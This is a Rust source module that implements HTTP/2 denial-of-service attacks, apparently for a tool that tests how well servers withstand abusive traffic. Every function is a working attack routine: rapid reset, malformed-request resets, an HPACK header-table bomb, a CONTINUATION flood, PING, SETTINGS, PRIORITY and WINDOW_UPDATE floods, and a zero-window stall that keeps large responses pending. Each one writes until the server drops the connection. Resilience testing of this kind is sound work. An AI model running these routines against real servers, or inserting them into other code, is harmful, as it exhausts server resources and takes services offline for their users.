//! What can be done to a server by frames.

use std::io;

use tokio::{
    io::AsyncWriteExt as _,
    net::{TcpStream, tcp::OwnedWriteHalf},
};
use watertight_core::{Either, race};

use super::Count;
use crate::{
    idle::drain,
    wire::frames::{self as h2, frame, hello, plain_request},
};

/// Streams or frames in one write.
const BATCH: u32 = 100;

/// Streams that a connection has at most: their numbers have 31 bits.
const STREAMS_MAX: u32 = 1 << 30;

/// `SETTINGS_INITIAL_WINDOW_SIZE`.
const INITIAL_WINDOW: u16 = 4;

/// Streams that hold on to their headers, on each connection.
const BOMBS: u32 = 5_000;

/// References on each. A header of two bytes counts 34 (RFC 7541, 4.1): with the
/// others they stay below 16 KiB, beyond which servers refuse by default.
const REFERENCES: usize = 430;

/// Large answers asked for on each connection.
const LARGE: u32 = 100;

pub(super) async fn rapid_reset(tcp: TcpStream, count: &Count) -> io::Result<()> {
    let block = plain_request(h2::GET, "/hello");
    let flags = h2::END_STREAM | h2::END_HEADERS;
    by_stream(tcp, count, true, |out, stream| {
        frame(out, h2::HEADERS, flags, stream, &block);
        frame(out, h2::RST_STREAM, 0, stream, &8_u32.to_be_bytes());
    })
    .await
}

/// No `:path`, which makes the server reset each stream by itself.
pub(super) async fn malformed_reset(tcp: TcpStream, count: &Count) -> io::Result<()> {
    let flags = h2::END_STREAM | h2::END_HEADERS;
    by_stream(tcp, count, false, |out, stream| {
        frame(out, h2::HEADERS, flags, stream, h2::GET);
    })
    .await
}

/// Puts a header into the table and refers to it again and again, on requests
/// whose bodies never come and whose answers nobody takes.
pub(super) async fn header_bomb(tcp: TcpStream, count: &Count) -> io::Result<()> {
    let mut first = plain_request(h2::POST, "/count");
    h2::new_name(&mut first, b"x", b"y");
    let mut next = plain_request(h2::POST, "/count");
    // The newest entry of the table: index 62, in one byte.
    next.resize(next.len() + REFERENCES, 0x80 | 62);
    let bombs = async |write: &mut OwnedWriteHalf| {
        send(write, count, &hello(&[(INITIAL_WINDOW, 0)])).await?;
        for number in 0..BOMBS {
            let mut out = Vec::new();
            let block = if number == 0 { &first } else { &next };
            frame(
                &mut out,
                h2::HEADERS,
                h2::END_HEADERS,
                2 * number + 1,
                block,
            );
            send(write, count, &out).await?;
        }
        std::future::pending().await
    };
    until_cut(tcp, true, bombs).await
}

pub(super) async fn continuation(tcp: TcpStream, count: &Count) -> io::Result<()> {
    let mut more = Vec::new();
    h2::new_name(&mut more, b"x", b"y");
    let more = more.repeat(1_000);
    let mut begin = hello(&[]);
    frame(
        &mut begin,
        h2::HEADERS,
        0,
        1,
        &plain_request(h2::GET, "/hello"),
    );
    let mut again = Vec::new();
    frame(&mut again, h2::CONTINUATION, 0, 1, &more);
    over_and_over(tcp, count, &begin, &again).await
}

pub(super) async fn ping(tcp: TcpStream, count: &Count) -> io::Result<()> {
    flood(tcp, count, h2::PING, b"12345678").await
}

pub(super) async fn settings(tcp: TcpStream, count: &Count) -> io::Result<()> {
    flood(tcp, count, h2::SETTINGS, &[0, 3, 0, 0, 0, 100]).await
}

pub(super) async fn priority(tcp: TcpStream, count: &Count) -> io::Result<()> {
    let mut begin = hello(&[]);
    let mut again = Vec::new();
    for number in 0..BATCH {
        let stream = 2 * number + 1;
        frame(&mut again, h2::PRIORITY, 0, stream, &[0, 0, 0, 0, 16]);
    }
    frame(&mut begin, h2::PRIORITY, 0, 1, &[0, 0, 0, 0, 16]);
    over_and_over(tcp, count, &begin, &again).await
}

pub(super) async fn window_update(tcp: TcpStream, count: &Count) -> io::Result<()> {
    flood(tcp, count, h2::WINDOW_UPDATE, &1_u32.to_be_bytes()).await
}

pub(super) async fn shut_window(tcp: TcpStream, count: &Count) -> io::Result<()> {
    let block = plain_request(h2::GET, "/big");
    let flags = h2::END_STREAM | h2::END_HEADERS;
    let mut out = hello(&[(INITIAL_WINDOW, 0)]);
    for number in 0..LARGE {
        frame(&mut out, h2::HEADERS, flags, 2 * number + 1, &block);
    }
    let ask = async |write: &mut OwnedWriteHalf| {
        send(write, count, &out).await?;
        std::future::pending().await
    };
    until_cut(tcp, true, ask).await
}

/// The same frame of the whole connection again and again.
async fn flood(tcp: TcpStream, count: &Count, kind: u8, payload: &[u8]) -> io::Result<()> {
    let mut again = Vec::new();
    for _ in 0..BATCH {
        frame(&mut again, kind, 0, 0, payload);
    }
    over_and_over(tcp, count, &hello(&[]), &again).await
}

async fn over_and_over(
    tcp: TcpStream,
    count: &Count,
    begin: &[u8],
    again: &[u8],
) -> io::Result<()> {
    let write = async |write: &mut OwnedWriteHalf| {
        send(write, count, begin).await?;
        loop {
            send(write, count, again).await?;
        }
    };
    until_cut(tcp, true, write).await
}

/// Something for each new stream.
async fn by_stream(
    tcp: TcpStream,
    count: &Count,
    reads: bool,
    make: impl Fn(&mut Vec<u8>, u32),
) -> io::Result<()> {
    let write = async |write: &mut OwnedWriteHalf| {
        send(write, count, &hello(&[])).await?;
        let mut stream = 1;
        while stream < STREAMS_MAX {
            let mut out = Vec::new();
            for _ in 0..BATCH {
                make(&mut out, stream);
                stream += 2;
            }
            send(write, count, &out).await?;
        }
        Ok(())
    };
    until_cut(tcp, reads, write).await
}

/// Writes, and perhaps reads, until the server has enough.
async fn until_cut(
    tcp: TcpStream,
    reads: bool,
    write: impl AsyncFnOnce(&mut OwnedWriteHalf) -> io::Result<()>,
) -> io::Result<()> {
    let (read, mut write_half) = tcp.into_split();
    let reading = async {
        if reads {
            drain(read).await;
        } else {
            // Held open, or the kernel would say that nobody reads.
            let _held = read;
            std::future::pending::<()>().await;
        }
    };
    match race(write(&mut write_half), reading).await {
        Either::Left(ended) => ended,
        Either::Right(()) => Ok(()),
    }
}

async fn send(write: &mut OwnedWriteHalf, count: &Count, bytes: &[u8]) -> io::Result<()> {
    write.write_all(bytes).await?;
    count.sent(bytes.len());
    Ok(())
}
